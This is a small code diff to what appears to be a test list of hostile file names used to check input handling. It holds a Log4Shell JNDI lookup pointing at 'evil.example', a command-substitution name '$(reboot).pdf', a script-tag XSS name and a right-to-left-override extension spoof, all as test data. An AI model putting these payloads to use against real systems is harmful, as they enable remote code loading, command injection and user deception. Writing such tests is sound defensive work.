@@ -131,7 +131,7 @@ const names = [
   "con.pdf",
   "\u202efdp.exe",
   "n".repeat(8_000),
-  "${jndi:ldap://evil.example/a}",
+  "\x24{jndi:ldap://evil.example/a}",
   "<script>alert(1)</script>.pdf",
   "$(reboot).pdf",
   "",
